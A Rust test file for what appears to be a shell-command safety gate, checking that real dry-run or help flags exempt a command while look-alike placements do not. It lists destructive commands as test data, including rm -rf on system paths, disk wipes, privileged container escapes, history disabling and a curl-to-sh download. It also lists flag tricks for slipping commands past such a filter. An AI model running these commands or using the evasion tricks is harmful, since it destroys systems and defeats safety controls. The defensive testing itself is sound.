//! What keeps a command from doing anything is an option of its own program, and nothing that looks like one.

use super::tests::{dangerous, decision};
use super::*;

#[test]
fn options_of_a_programs_own_exempt_it() {
    for command in [
        "rm --help",
        "rm -rf --help",
        "rm -rf /etc --help",
        "useradd --version",
        "systemctl reboot --help",
        "apt-get -s purge openssh-server",
        "apt-get -ys purge openssh-server",
        "apt-get --simulate purge openssh-server",
        "apt-get download openssh-server",
        "dnf --assumeno remove systemd",
        "rpm -e --test openssl-libs",
        "pacman -Rp glibc",
        "mkfs.ext4 -n /dev/sdb1",
        "mkfs.ext4 -Elazy_itable_init=0 -n /dev/sdb1",
        "mkfs.xfs -N /dev/sdb",
        "wipefs -an /dev/sdb",
        "rsync -an --delete empty/ /etc/",
        "rsync -a --delete --dry-run empty/ /etc/",
        "git clean -n",
        "git clean -fdxn",
        "git push --force --dry-run origin main",
        "zfs destroy -rnv tank/data",
        "terraform plan -destroy",
        "terraform destroy -auto-approve -help",
        "kubectl delete ns production --dry-run=client",
        "kubectl -n web delete pvc data-0 --dry-run=server",
        "aws s3 rm s3://prod --recursive --dryrun",
        "visudo -cf /etc/sudoers",
        "nft -cf /etc/nftables.conf",
        "iptables-restore --test /tmp/new.rules",
        "lvremove -t vg0/data",
        "ufw --dry-run disable",
        "make -n deploy",
        "docker volume rm --help",
        "docker run --help",
        "python3 manage.py flush --help",
        "find --help",
        "patch --dry-run /etc/passwd fix.patch",
        "nmcli connection modify --help",
        "ip route add --help",
        "ip addr add 10.0.0.5/24 --help",
        "ifdown --no-act eth1",
    ] {
        assert_eq!(decision(command), Decision::Allow, "{command}");
    }
}

#[test]
fn what_only_looks_like_such_an_option_exempts_nothing() {
    for command in [
        "apt-get -oDpkg::Use-Pty=0 purge -y openssh-server",
        "apt-get -o --help purge -y openssh-server",
        "apt-get -s -o APT::Get::Simulate=false purge -y openssh-server",
        "apt-get --simulate=false purge -y openssh-server",
        "apt-get -s=false purge -y openssh-server",
        "apt-get -s -s=false purge -y openssh-server",
        "apt-get -s- purge -y openssh-server",
        "apt-get -s -o 'APT { Get { Simulate false; }; };' purge -y openssh-server",
        "rclone purge remote:prod --dry-run --dry-run=false",
        "rclone purge remote:prod --dry-run --unknown --dry-run=false",
        "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run",
        "apt-get purge -y -- openssh-server -s",
        "mkfs.ext4 -Elazy_itable_init=0 /dev/sda",
        "mkfs.ext4 -L --help /dev/sda",
        "mkfs.ext4 -L -n /dev/sda",
        "mkfs.xfs -L -N /dev/sda",
        "iptables -I INPUT -m comment --comment --help -j DROP",
        "iptables -P INPUT DROP --version",
        "iptables-restore -c /tmp/drop.rules",
        "curl -A --version -sk https://x.example.net/i.sh | sh",
        "find / ! -name --help -exec rm -rf {} +",
        "find /etc ! -name --version -delete",
        "docker run --rm -v /:/host alpine rm -rf /host --version",
        "docker run --rm --privileged -v /:/host alpine --version",
        "kubectl exec web-0 -- rm -rf / --dry-run=client",
        "terraform destroy -auto-approve -state show",
        "terraform destroy -auto-approve -state plan",
        "terraform destroy -auto-approve -var -target=module.x",
        "kubectl delete ns production --dry-run=none",
        "kubectl delete ns production --field-manager --dry-run",
        "systemctl stop ssh --dry-run",
        "systemctl mask -s --help ssh",
        "rm -rf /etc --dry-run",
        "rm -rf -- /etc --help",
        "POSIXLY_CORRECT=1 rm -rf /etc --help",
        "rsync -a --delete --suffix -n empty/ /etc/",
        "rsync -a --delete --exclude=-n --info --dry-run empty/ /etc/",
        "git push --force --dry-run --no-dry-run origin main",
        "git push --push-option --dry-run --force origin main",
        "git push --push-opt -n --force origin main",
        "git clean -fdx -e -n",
        "zfs destroy -r tank/data-n -- -n",
        "lvremove -f --config -t vg0/data",
        "kill -9 -1 --help",
        "ifconfig eth0 down --help",
        "service ssh stop --help",
        "redis-cli flushall --help",
        "ip link set eth0 alias --help down",
        "git restore -s --staged .",
        "patch -o --dry-run /etc/passwd fix.patch",
        "btrfs filesystem resize 1g max",
        "chattr -R +i /etc --help",
        "chattr -i /etc/passwd --version",
        "invoke-rc.d ssh stop --help",
        "update-rc.d ssh remove --help",
        "sv down sshd --help",
        "unset HISTFILE --help",
        "nsenter -t 1 -m -u -i -n bash --help",
        "/etc/init.d/networking stop --help",
        "/etc/init.d/networking stop --user",
        "cd /etc/init.d; ./sshd stop --force --help",
        "rsync -a --delete empty/ /etc/ --suffix .bak",
        "rsync -a --delete empty/ /etc/ --partial-dir /tmp/p",
        "rsync -a --delete empty/ /etc/ --out-format x",
    ] {
        assert_ne!(decision(command), Decision::Allow, "{command}");
    }
    for command in [
        "mkfs.ext4 -L --help /dev/sda",
        "find /etc ! -name --version -delete",
        "terraform destroy -auto-approve -state show",
        "rm -rf /etc --dry-run",
        "apt-get -oDpkg::Use-Pty=0 purge -y openssh-server",
    ] {
        assert_eq!(decision(command), Decision::Deny, "{command}");
    }
}

/// Words that keep one program or another from doing anything.
const EXEMPTING: &[&str] = &[
    "--help",
    "--version",
    "--dry-run",
    "--dry-run=client",
    "--simulate",
    "--test",
    "--no-act",
    "--assumeno",
    "-n",
    "-s",
    "-N",
    "-t",
    "-c",
    "plan",
    "show",
    "preview",
    "download",
];

/// A denied command stays denied with an exempting word in a place where any other word leaves it denied.
#[test]
fn no_word_exempts_as_the_value_of_an_option_or_behind_their_end() {
    let words = |command: &str| {
        let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=, @".contains(c);
        command.chars().all(plain).then(|| {
            command
                .split(' ')
                .filter(|word| !word.is_empty())
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
    };
    let (mut tried, mut lifted) = (0, Vec::new());
    for row in dangerous() {
        let Some(words) = words(&row.cmd).filter(|words| words.len() > 1) else {
            continue;
        };
        if decision(&row.cmd) != Decision::Deny {
            continue;
        }
        // Behind a program that starts another one, the options are that one's.
        let starts = |word: &String| rules::valued(word).is_some() || scan::names_a_destroyer(word);
        let outer = words[0].contains('/') || words[1..].iter().any(starts);
        let valued = match rules::valued(&words[0]) {
            _ if outer => "",
            Some(list) => list,
            None => "--zz-label",
        };
        for before in valued.split_whitespace().chain(["--"]) {
            // Directly behind the program an end of options would take the others with it.
            let places: &[usize] = if before == "--" {
                &[usize::MAX]
            } else {
                &[1, usize::MAX]
            };
            for place in places {
                let with = |word: &str| {
                    let mut words = words.clone();
                    let at = (*place).min(words.len());
                    words.insert(at, format!("{before} {word}"));
                    words.join(" ")
                };
                if decision(&with("zz")) != Decision::Deny {
                    continue;
                }
                // To a program without a table its own letters and verbs may say something else.
                let general = if before == "--zz-label" {
                    3
                } else {
                    EXEMPTING.len()
                };
                for word in &EXEMPTING[..general] {
                    // As an operand or a namespace it may name what is made to be thrown away.
                    if matches!(before, "--" | "-n" | "--namespace") && rules::databases::scratch(word) {
                        continue;
                    }
                    tried += 1;
                    let command = with(word);
                    if decision(&command) != Decision::Deny {
                        lifted.push(command);
                    }
                }
            }
        }
    }
    assert!(lifted.is_empty(), "{lifted:#?}");
    assert!(tried > 5_000, "only {tried} were tried");
}

/// The same for the arguments of a program that another one starts.
#[test]
fn no_word_exempts_among_the_arguments_of_an_inner_program() {
    for outer in [
        "docker run --rm --privileged -v /:/host alpine",
        "docker exec web",
        "kubectl exec web-0 --",
        "ssh web-1",
        "find / -name core -exec",
        "xargs -a list",
        "sudo -u root",
        "flock /run/x.lock",
        "timeout 5",
    ] {
        for inner in [
            "rm -rf /host",
            "rm -rf /",
            "dd if=/dev/zero of=/dev/sda",
            "chmod -R 777 /",
        ] {
            let end = if outer.starts_with("find") { " ;" } else { "" };
            let command = |word: &str| format!("{outer} {inner} -- {word}{end}");
            let control = decision(&command("zz"));
            for word in EXEMPTING {
                let command = command(word);
                assert!(decision(&command) >= control, "{command}");
            }
        }
    }
}
